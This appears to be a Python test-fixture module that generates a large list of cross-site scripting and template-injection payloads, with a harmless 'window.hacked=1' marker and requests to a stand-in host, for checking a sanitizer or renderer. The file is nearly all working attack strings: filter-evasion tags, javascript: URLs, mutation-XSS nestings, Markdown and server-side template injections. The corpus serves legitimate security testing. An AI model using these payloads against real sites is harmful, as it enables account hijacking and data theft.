"""Texts that would do harm if anything took them for more than text: each of its own kind or in its own context.

`CALL` says that a payload ran: `window.hacked` is set, or a request goes to `x.invalid`.
"""

from __future__ import annotations

CALL = "window.hacked=1"
_FAR = "//x.invalid/p"

_HANDLERS = (
    "img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror",
    "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus",
    "details open ontoggle", "marquee onstart", "iframe onload", "object onerror data=x", "embed onload src=x",
    "style onload", "link rel=stylesheet href=x onerror", "script src=x onerror", "math onmouseover",
    "div onmouseenter", "p onclick", "a onclick", "form onsubmit", "table onpointerover", "dialog open onclose",
    "animate onbegin attributeName=x dur=1s", "set onbegin attributeName=x to=1",
    "x contenteditable onfocus id=x tabindex=1", "div style='animation:spin 1s' onanimationstart",
    "div style='transition:all 1s' ontransitionend", "slot onslotchange",
)  # fmt: skip
_ELEMENTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script type=module>{}</script>", "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}//", "</script><script>{}</script>",
    "<svg><script>{}</script></svg>", "<math><script>{}</script></math>", "<svg><script href=data:,{} /></svg>",
    "<script src=data:text/javascript,{}></script>", "<noscript><p title='</noscript><script>{}</script>'>",
    "<template><script>{}</script></template>", "<textarea></textarea><script>{}</script>",
    "<title></title><script>{}</script>", "<style></style><script>{}</script>", "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>", "<?xml version='1.0'?><script>{}</script>", "<xmp><script>{}</script></xmp>",
    "<plaintext><script>{}</script>", "<listing><script>{}</script></listing>",
)  # fmt: skip
_URLS = (
    "<a href='javascript:{}'>x</a>", "<a href='JaVaScRiPt:{}'>x</a>", "<a href='java&#9;script:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>", "<a href=' javascript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>", "<a href='vbscript:{}'>x</a>",
    "<iframe src='javascript:{}'></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<form action='javascript:{}'><button>x</button></form>", "<button formaction='javascript:{}'>x</button>",
    "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'></use></svg>",
    "<math><mtext href='javascript:{}'>x</mtext></math>", "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<area href='javascript:{}'>",
    "<svg><animate xlink:href=#y attributeName=href values='javascript:{}'/></svg>",
    "<video poster='javascript:{}'></video>", "<isindex action='javascript:{}' type=image>",
    "<input type=image src=x formaction='javascript:{}'>", "<table background='javascript:{}'>",
)  # fmt: skip
_FETCHED = (
    "<img src={}.png>", "<img srcset='{}.png 2x'>", "<picture><source srcset={}.png><img></picture>",
    "<link rel=stylesheet href={}.css>", "<link rel=preload as=image href={}.png>", "<link rel=prefetch href={}>",
    "<link rel=dns-prefetch href={}>", "<script src={}.js></script>", "<iframe src={}></iframe>",
    "<object data={}></object>", "<embed src={}>", "<video src={}.mp4 autoplay></video>",
    "<audio src={}.mp3 autoplay></audio>", "<video><track src={}.vtt default></video>",
    "<input type=image src={}.png>", "<body background={}.png>", "<svg><image href={}.png /></svg>",
    "<svg><feImage href={}.png /></svg>", "<svg><use href={}.svg#x /></svg>", "<style>@import '{}.css';</style>",
    "<style>*{{background:url({}.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({}.woff)}}*{{font-family:x}}</style>",
    "<div style='background:url({}.png)'>x</div>", "<div style='list-style:url({}.png);display:list-item'>x</div>",
    "<p style='border-image:url({}.png)'>x</p>", "<p style='cursor:url({}.cur),auto'>x</p>",
    "<meta http-equiv=refresh content='0;url={}'>", "<base href={}/>", "<a href={} ping={}>x</a>",
    "<form action={} target=_self><input autofocus></form>", "<portal src={}></portal>",
    "<frameset><frame src={}></frameset>", "<applet code={}></applet>", "<bgsound src={}.wav>",
    "<html manifest={}>", "![x]({}.png)", "![x][y]\n\n[y]: {}.png", "[![x]({}.png)]({})", "<{}>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:{})", "[x](<javascript:{}>)", "[x](javascript&colon;{})", "[x]: javascript:{} \"x\"\n[x]",
    "<javascript:{}>", "![x](javascript:{})", "![x\" onerror=\"{}](x)", "[x\" onclick=\"{}](#)", "**bold {}**",
    "__strong {}__", "*em {}*", "~~gone {}~~", "`code {}`", "```js\n{}\n```", "```html\n<script>{}</script>\n```",
    "    {}", "# Heading {}", "{}\n===", "> quoted {}", "- item {}", "1. item {}", "- [x] done {}",
    "| a | b |\n|---|---|\n| {} | <img src=x onerror={}> |", "---\n{}\n---", "$\\href{{javascript:{}}}{{x}}$",
    "$$\\unicode{{<img src=x onerror={}>}}$$", "\\(\\url{{javascript:{}}}\\)", "\\[\\includegraphics{{{}}}\\]",
    "```mermaid\ngraph TD; a-->b; click a javascript:{}\n```", ":::{}\n:::",
    "<details><summary>x</summary>{}</details>", "[^1]\n\n[^1]: <script>{}</script>", "<b>bold</b> {}",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "\\<script>{}\\</script>",
    "<mark>{}</mark>",
)  # fmt: skip
_TEMPLATES = (
    "${{{}}}", "`${{{}}}`", "{{{{{}}}}}", "{{{{{{{}}}}}}}", "{{{{constructor.constructor('{}')()}}}}",
    "{{%% {} %%}}", "<%= {} %>", "<% {} %>", "#{{{}}}", "{{{{#each x}}}}{}{{{{/each}}}}",
    "{{{{#with this}}}}{}{{{{/with}}}}", "@{{{}}}", "@children {}", "${{value}} {}",
    "__i18n__{{\"__type__\":\"translation_metadata\",\"key\":\"page.ask\"}}{}", "__i18n__{{\"key\":\"{}\"}}",
    "%({})s", "{{0.__class__}} {}", "{{count}} {}", "$({})", "`{}`", "[[{}]]", "{{{{= {} }}}}", "*{{{}}}",
    "~{{{}}}", "data-x=\"{}\"", "&{{{}}};",
)  # fmt: skip
_CONTEXTS = (
    "\"><img src=x onerror={}>", "'><img src=x onerror={}>", "\" onmouseover=\"{}", "' onmouseover='{}",
    "\" autofocus onfocus=\"{}\" x=\"", "` onmouseover=`{}", "</mark><img src=x onerror={}>",
    "</blockquote></div><script>{}</script>", "</button><button onclick={}>", "</span><svg/onload={}>",
    "</textarea><svg/onload={}>", "</option></select><img src=x onerror={}>", "</title><svg/onload={}>",
    "</style><svg/onload={}>", "--><svg/onload={}>", "]]><svg/onload={}>",
    "</article></div><iframe srcdoc='<script>{}</script>'>", "\";{};//", "';{};//", "\\\";{};//",
    "</script><svg/onload={}>", "\u2028{}//", "*/{}/*", "&quot;><img src=x onerror={}>", "&#34;><svg/onload={}>",
    "%22%3E%3Cimg src=x onerror={}%3E", "\\x3cimg src=x onerror={}\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "＜script＞{}＜/script＞", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<img\tsrc=x\tonerror={}>", "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>", "<<img src=x onerror={}>>",
    "<img src=x onerror={} //", "<img src='x'onerror='{}'>", "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mi><table><mglyph><style><img src=x onerror={}></style></table></mi></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror={}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<div id=cl-pane><button class=cl-close onclick={}>x</button></div>", "<style>body{{display:none}}</style>{}",
    "<div style='position:fixed;inset:0;background:red' onclick={}>x</div>",
    "<a id=clausesFollow name=cookie href=x>{}</a>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    found = [f"<{handler}={CALL}>" for handler in _HANDLERS]
    for shapes in (_ELEMENTS, _URLS, _MARKDOWN, _TEMPLATES, _CONTEXTS):
        found += [shape.format(*[CALL] * 4) for shape in shapes]
    found += [shape.format(*[f"http:{_FAR}"] * 4) for shape in _FETCHED]
    return list(dict.fromkeys(found))
